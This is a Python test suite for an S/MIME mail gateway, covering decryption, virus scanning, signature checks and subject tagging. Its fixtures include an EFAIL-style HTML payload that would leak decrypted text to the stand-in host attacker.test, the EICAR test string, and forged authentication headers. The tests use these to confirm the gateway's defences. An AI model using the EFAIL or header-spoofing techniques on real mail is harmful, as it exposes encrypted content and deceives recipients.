#!/usr/bin/env python3
"""The S/MIME gateway, inbound: mail from outside is decrypted with a
local recipient's key before the virus scan sees it, its signature is
checked against the store's trust anchors, and the result is recorded in
an X-Osms-SMIME field that a sender cannot forge.

The messages are made by an independent peer, `openssl cms`; the store
holds alice's certificate and key and the test CA as trust anchor.
"""
import os
import pwd
import re
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from osmstest import *  # noqa: E402,F401,F403
from mailtest import *  # noqa: E402,F401,F403

import smtplib  # noqa: E402

t = Tests(__file__)

EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-"
         "FILE!$H+H*")


def sh(args, data=None):
    return subprocess.run(args, input=data, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, check=True).stdout


def make_pki(d):
    sh(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
        "-keyout", d + "/ca.key", "-out", d + "/ca.pem", "-days", "30",
        "-subj", "/CN=Gateway Test CA", "-addext",
        "basicConstraints=critical,CA:TRUE", "-addext",
        "keyUsage=critical,keyCertSign"])
    for name, email in (("alice", "alice@example.test"),
                        ("bob", "bob@remote.test")):
        with open(d + "/%s.ext" % name, "w") as f:
            f.write("subjectAltName=email:%s\nkeyUsage=digitalSignature,"
                    "keyEncipherment\nextendedKeyUsage=emailProtection\n"
                    % email)
        sh(["openssl", "req", "-newkey", "rsa:2048", "-nodes", "-keyout",
            "%s/%s.key" % (d, name), "-out", "%s/%s.csr" % (d, name),
            "-subj", "/CN=%s" % name])
        sh(["openssl", "x509", "-req", "-in", "%s/%s.csr" % (d, name),
            "-CA", d + "/ca.pem", "-CAkey", d + "/ca.key", "-set_serial",
            str(int.from_bytes(os.urandom(8), "big")), "-days", "30",
            "-extfile", "%s/%s.ext" % (d, name), "-out",
            "%s/%s.pem" % (d, name)])


def outer(sender, mid, extra=""):
    """The header fields a mail client keeps outside S/MIME."""
    return ("From: <%s>\r\nTo: <alice@example.test>\r\nSubject: gw\r\n"
            "Message-ID: %s\r\n%s" % (sender, mid, extra)).encode()


def content(body):
    return ("Content-Type: text/plain; charset=us-ascii\r\n\r\n%s\r\n"
            % body).encode()


def message(sender, mid, body, extra=""):
    return outer(sender, mid, extra) + b"MIME-Version: 1.0\r\n" + \
        content(body)


def cms(args, sender, mid, body):
    """A message as a client makes it: its content through openssl cms,
    the outer fields in front, line ends CRLF for SMTP."""
    out = sh(["openssl", "cms"] + args, content(body))
    out = out.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    return outer(sender, mid) + out


def smtp(port, data, sender="bob@remote.test"):
    c = smtplib.SMTP("127.0.0.1", port, timeout=60)
    try:
        c.ehlo("remote.test")
        c.mail(sender)
        c.rcpt("alice@example.test")
        code, text = c.data(data)
        c.quit()
    finally:
        c.close()
    return code, text


pki = tempfile.mkdtemp(prefix="osms-gw-")
make_pki(pki)
with Osms() as o:
    mx = o.ports["smtp"]
    box = Mailboxes(o)
    # The store: made by osmsd for cryptod; filled here, then reloaded.
    store = o.path("certs")
    o.write_conf(o.conf_text() + 'cryptod {\n\tcertificates "%s"\n}\n'
                 % store)
    o.ctl("reload")
    time.sleep(0.5)
    crypt = pwd.getpwnam("_osmscrypt")
    for src, dst in (("alice.pem", "alice@example.test.pem"),
                     ("alice.key", "alice@example.test.key"),
                     ("ca.pem", "trust.pem")):
        with open(os.path.join(pki, src), "rb") as f:
            data = f.read()
        path = os.path.join(store, dst)
        with open(path, "wb") as f:
            f.write(data)
        os.chown(path, crypt.pw_uid, crypt.pw_gid)
        os.chmod(path, 0o600)
    o.ctl("reload")
    time.sleep(0.5)

    with t.case("encrypted for alice: delivered decrypted, recorded"):
        mid = message_id()
        enc = cms(["-encrypt", "-aes256", pki + "/alice.pem"],
                  "bob@remote.test", mid, "the secret text")
        code, text = smtp(mx, enc)
        t.expect(code == 250, "%d %r" % (code, text))
        raw = b""
        m = box.wait_for("alice", mid)
        t.require(m is not None, "not delivered")
        raw = box.raw_bytes("alice", mid)
        t.expect(b"the secret text" in raw, "not decrypted")
        t.expect((m["X-Osms-SMIME"] or "").startswith(
            "decrypted for alice@example.test"), repr(m["X-Osms-SMIME"]))
        t.expect(m["X-Virus-Scanned"] is not None, "not scanned")

    with t.case("an encrypted virus is refused at DATA (decrypt, scan)"):
        enc = cms(["-encrypt", "-aes256", pki + "/alice.pem"],
                  "bob@remote.test", message_id(), EICAR)
        code, text = smtp(mx, enc)
        t.expect(code == 550 and b"Osms.Test.EICAR" in text,
                 "%d %r" % (code, text))

    with t.case("signed by bob: verified, the certificate harvested"):
        mid = message_id()
        signed = cms(["-sign", "-signer", pki + "/bob.pem", "-inkey",
                      pki + "/bob.key", "-md", "sha256"],
                     "bob@remote.test", mid, "signed text")
        code, text = smtp(mx, signed)
        m = box.wait_for("alice", mid)
        t.require(code == 250 and m is not None, "%d %r" % (code, text))
        t.expect(m["X-Osms-SMIME"] == "verified signer=bob@remote.test",
                 repr(m["X-Osms-SMIME"]))
        serial = sh(["openssl", "x509", "-in", pki + "/bob.pem", "-noout",
                     "-serial"], b"").decode().strip().split("=")[1]
        ar = m.get_all("Authentication-Results") or []
        got = re.match(r"^mail\.example\.test; smime=pass body\.smime-"
                       r"identifier=bob@remote\.test body\.smime-serial="
                       r"([0-9A-F]+)$", ar[0]) if len(ar) == 1 else None
        t.expect(got and got.group(1).lstrip("0") == serial.lstrip("0"),
                 "%r, serial %s" % (ar, serial))
        t.expect(os.path.exists(os.path.join(
            store, "harvested", "bob@remote.test.pem")), "not harvested")

    with t.case("a signer that is not the From address: mismatch"):
        mid = message_id()
        signed = cms(["-sign", "-signer", pki + "/bob.pem", "-inkey",
                      pki + "/bob.key"], "ceo@remote.test", mid, "trust me")
        smtp(mx, signed, "ceo@remote.test")
        m = box.wait_for("alice", mid)
        t.expect(m is not None and (m["X-Osms-SMIME"] or "").startswith(
            "signer mismatch signer=bob@remote.test from=ceo@remote.test"),
            repr(m and m["X-Osms-SMIME"]))
        t.expect(m is not None and (m["Authentication-Results"] or "")
                 .startswith("mail.example.test; smime=policy "
                             "body.smime-identifier=bob@remote.test "),
                 repr(m and m["Authentication-Results"]))

    with t.case("a tampered signature: failed"):
        mid = message_id()
        signed = cms(["-sign", "-signer", pki + "/bob.pem", "-inkey",
                      pki + "/bob.key"], "bob@remote.test", mid,
                     "original words")
        signed = signed.replace(b"original words", b"modified words")
        smtp(mx, signed)
        m = box.wait_for("alice", mid)
        t.expect(m is not None and (m["X-Osms-SMIME"] or "").startswith(
            "failed"), repr(m and m["X-Osms-SMIME"]))
        t.expect(m is not None and (m["Authentication-Results"] or "")
                 .startswith("mail.example.test; smime=fail"),
                 repr(m and m["Authentication-Results"]))

    with t.case("a forged X-Osms-SMIME field is removed"):
        mid = message_id()
        smtp(mx, message("bob@remote.test", mid, "plain",
                         "X-Osms-SMIME: verified signer=ceo@example.test\r\n"))
        m = box.wait_for("alice", mid)
        t.expect(m is not None and "ceo@example.test" not in
                 (m["X-Osms-SMIME"] or ""), repr(m and m["X-Osms-SMIME"]))

    with t.case("Authentication-Results in our name are removed, "
                "others' kept"):
        mid = message_id()
        forged = ("Authentication-Results: MAIL.example.test; smime=pass\r\n"
                  "Authentication-Results: (a \\) trick)\r\n"
                  " mail.example.test 1; smime=pass\r\n"
                  "Authentication-Results: mail.example.test.evil; "
                  "spf=pass\r\n")
        smtp(mx, message("bob@remote.test", mid, "plain", forged))
        m = box.wait_for("alice", mid)
        t.expect(m is not None and m.get_all("Authentication-Results") ==
                 ["mail.example.test.evil; spf=pass"],
                 repr(m and m.get_all("Authentication-Results")))
        t.expect(m is not None and m["X-Osms-SMIME"] ==
                 "forged verdict fields removed",
                 repr(m and m["X-Osms-SMIME"]))

    with t.case("a user's mail is signed with the user's certificate"):
        mid = submit(o.ports["submission"], ["bob@example.test"],
                     body="from alice, signed by osms\r\n")
        m = box.wait_for("bob", mid)
        t.require(m is not None, "not delivered")
        raw = box.raw_bytes("bob", mid)
        t.expect(m.get_content_type() == "multipart/signed", "not signed")
        path = os.path.join(pki, "got.eml")
        with open(path, "wb") as f:
            f.write(raw)
        v = subprocess.run(["openssl", "cms", "-verify", "-CAfile",
                            pki + "/ca.pem", "-in", path],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        t.expect(v.returncode == 0 and b"from alice, signed by osms" in
                 v.stdout, v.stderr.decode()[-300:])
        t.expect(m["X-Osms-SMIME"] is None, "a note on outbound mail")

    with t.case("encrypted for a key not here: delivered as it is"):
        mid = message_id()
        enc = cms(["-encrypt", "-aes256", pki + "/bob.pem"],
                  "bob@remote.test", mid, "for bob only")
        code, _ = smtp(mx, enc)
        m = box.wait_for("alice", mid)
        raw = box.raw_bytes("alice", mid)
        t.expect(code == 250 and m is not None and
                 m["X-Osms-SMIME"] == "encrypted, for no key here" and
                 b"for bob only" not in raw, "code %d" % code)
    with t.case("EFAIL: an encrypted part between HTML parts is "
                "decrypted apart, never joined to them"):
        mid = message_id()
        enc = sh(["openssl", "cms", "-encrypt", "-aes256",
                  pki + "/alice.pem"], content("the efail secret"))
        enc = enc.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        body = (b"--B\r\nContent-Type: text/html\r\n\r\n"
                b"<img src=\"http://attacker.test/?\r\n--B\r\n" + enc +
                b"\r\n--B\r\nContent-Type: text/html\r\n\r\n\">\r\n"
                b"--B--\r\n")
        code, text = smtp(mx, outer("bob@remote.test", mid) +
                          b"MIME-Version: 1.0\r\nContent-Type: multipart/"
                          b"mixed; boundary=\"B\"\r\n\r\n" + body)
        m = box.wait_for("alice", mid)
        t.require(code == 250 and m is not None, "%d %r" % (code, text))
        t.expect((m["X-Osms-SMIME"] or "").startswith(
            "decrypted for alice@example.test (one encrypted part among "
            "unencrypted ones"), repr(m["X-Osms-SMIME"]))
        parts = m.get_payload()
        t.require(m.get_content_type() == "multipart/mixed" and
                  len(parts) == 2, "shape: %s, %d parts" % (
                      m.get_content_type(), len(parts)))
        first = parts[0].as_string()
        t.expect("the efail secret" in first and "attacker" not in first,
                 "the decrypted part alone: %r" % first[:200])
        orig = parts[1].as_string()
        t.expect(parts[1].get_content_type() == "message/rfc822" and
                 "attacker.test" in orig and "the efail secret" not in
                 orig, "the original attached, still encrypted")
    with t.case("gpgsm signs (opaque signed-data) and encrypts for "
                "alice: delivered decrypted, bob's signature verified"):
        home = os.path.join(pki, "gnupg")
        os.mkdir(home, 0o700)
        with open(os.path.join(home, "gpgsm.conf"), "w") as f:
            f.write("disable-crl-checks\ndisable-dirmngr\n"
                    "disable-policy-checks\n")
        with open(os.path.join(home, "gpg-agent.conf"), "w") as f:
            f.write("allow-loopback-pinentry\n")
        fpr = sh(["openssl", "x509", "-in", pki + "/ca.pem", "-noout",
                  "-fingerprint", "-sha1"]).decode().split("=")[1].strip()
        with open(os.path.join(home, "trustlist.txt"), "w") as f:
            f.write("%s S\n" % fpr)
        env = dict(os.environ, GNUPGHOME=home, LC_ALL="C")

        def gpgsm(*args):
            return subprocess.run(
                ["gpgsm", "--batch", "--no-tty", "--pinentry-mode",
                 "loopback", "--passphrase", ""] + list(args),
                stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        for f in ("ca.pem", "alice.pem"):
            gpgsm("--import", pki + "/" + f)
        # gpgsm 2.2 fails on about one such file in 150 (a wrong try at
        # the empty password that happens to unpad): a fresh salt again.
        for attempt in range(5):
            sh(["openssl", "pkcs12", "-export", "-legacy", "-in",
                pki + "/bob.pem", "-inkey", pki + "/bob.key", "-passout",
                "pass:", "-out", pki + "/bob.p12"])
            if gpgsm("--import", pki + "/bob.p12").returncode == 0:
                break
        # Files, not standard input: with --passphrase, gpgsm 2.2 takes
        # the first line of standard input for the passphrase.
        with open(os.path.join(pki, "g.ent"), "wb") as f:
            f.write(content("made by gpgsm"))
        p = gpgsm("--base64", "-u", "bob@remote.test", "--sign",
                  os.path.join(pki, "g.ent"))
        t.require(p.returncode == 0, p.stderr.decode()[-300:])
        inner = (b"Content-Type: application/pkcs7-mime; smime-type="
                 b"signed-data; name=smime.p7m\r\nContent-Transfer-"
                 b"Encoding: base64\r\n\r\n" +
                 p.stdout.replace(b"\n", b"\r\n"))
        with open(os.path.join(pki, "g.inner"), "wb") as f:
            f.write(inner)
        p = gpgsm("--base64", "-r", "alice@example.test", "--encrypt",
                  os.path.join(pki, "g.inner"))
        t.require(p.returncode == 0, p.stderr.decode()[-300:])
        subprocess.run(["gpgconf", "--kill", "all"], env=env)
        mid = message_id()
        code, text = smtp(mx, outer("bob@remote.test", mid) +
                          b"MIME-Version: 1.0\r\nContent-Type: application/"
                          b"pkcs7-mime; smime-type=enveloped-data; name="
                          b"smime.p7m\r\nContent-Transfer-Encoding: base64"
                          b"\r\n\r\n" + p.stdout.replace(b"\n", b"\r\n"))
        m = box.wait_for("alice", mid)
        t.require(code == 250 and m is not None, "%d %r" % (code, text))
        t.expect(m["X-Osms-SMIME"] == "decrypted for alice@example.test; "
                 "verified signer=bob@remote.test", repr(m["X-Osms-SMIME"]))
        t.expect((m["Authentication-Results"] or "").startswith(
            "mail.example.test; smime=pass body.smime-identifier="
            "bob@remote.test "), repr(m["Authentication-Results"]))
        # Opaque signed-data stays as it came (a client checks it too):
        # the text is inside.
        t.expect(b"made by gpgsm" in (m.get_payload(decode=True) or b""),
                 "the text")

    # keep-original and subject-tag, by policy
    o.write_conf(o.conf_text() + 'cryptod {\n\trule inbound from '
                 'remote.test keep-original yes subject-tag yes\n}\n')
    o.ctl("reload")
    time.sleep(0.5)

    with t.case("keep-original and subject-tag: signed and encrypted mail"
                " is delivered decrypted, tagged, the original attached"):
        mid = message_id()
        signed = sh(["openssl", "cms", "-sign", "-signer", pki + "/bob.pem",
                     "-inkey", pki + "/bob.key", "-md", "sha256"],
                    content("signed, then sealed"))
        enc = sh(["openssl", "cms", "-encrypt", "-aes256",
                  pki + "/alice.pem"], signed)
        enc = enc.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
        code, text = smtp(mx, outer("bob@remote.test", mid) + enc)
        m = box.wait_for("alice", mid)
        t.require(code == 250 and m is not None, "%d %r" % (code, text))
        t.expect(m["X-Osms-SMIME"] == "decrypted for alice@example.test; "
                 "verified signer=bob@remote.test; the original attached",
                 repr(m["X-Osms-SMIME"]))
        t.expect(m["Subject"] == "[encrypted] [signed] gw", m["Subject"])
        parts = m.get_payload()
        t.require(m.get_content_type() == "multipart/mixed" and
                  len(parts) == 2, m.get_content_type())
        t.expect(parts[0].get_content_type() == "multipart/signed",
                 parts[0].get_content_type())
        t.expect(parts[1].get_content_type() == "message/rfc822" and
                 "smime-type=enveloped-data" in parts[1].as_string() and
                 "signed, then sealed" not in parts[1].as_string(),
                 "the encrypted original")
        path = os.path.join(pki, "kept.eml")
        with open(path, "wb") as f:
            f.write(b"MIME-Version: 1.0\r\n" + parts[0].as_bytes())
        v = subprocess.run(["openssl", "cms", "-verify", "-CAfile",
                            pki + "/ca.pem", "-in", path, "-out", "/dev/null"],
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        t.expect(v.returncode == 0, "the kept signature still verifies: %s"
                 % v.stderr.decode()[-200:])

    with t.case("subject-tag: a signature that fails is tagged so"):
        mid = message_id()
        signed = cms(["-sign", "-signer", pki + "/bob.pem", "-inkey",
                      pki + "/bob.key"], "bob@remote.test", mid, "first")
        smtp(mx, signed.replace(b"first", b"later"))
        m = box.wait_for("alice", mid)
        t.expect(m is not None and m["Subject"] ==
                 "[signature invalid] gw", repr(m and m["Subject"]))

    with t.case("subject-tag: the sender's own \"[signed]\" is removed, "
                "a tag is osms's word"):
        mid = message_id()
        raw = message("bob@remote.test", mid, "not signed at all").replace(
            b"Subject: gw", b"Subject: [Signed]  [encrypted] gw")
        smtp(mx, raw)
        m = box.wait_for("alice", mid)
        t.expect(m is not None and m["Subject"] == "gw",
                 repr(m and m["Subject"]))
        mid = message_id()
        signed = cms(["-sign", "-signer", pki + "/bob.pem", "-inkey",
                      pki + "/bob.key"], "bob@remote.test", mid, "real")
        smtp(mx, signed.replace(b"Subject: gw", b"Subject: [signed] gw"))
        m = box.wait_for("alice", mid)
        t.expect(m is not None and m["Subject"] == "[signed] gw",
                 repr(m and m["Subject"]))
subprocess.run(["rm", "-rf", pki])
t.done()
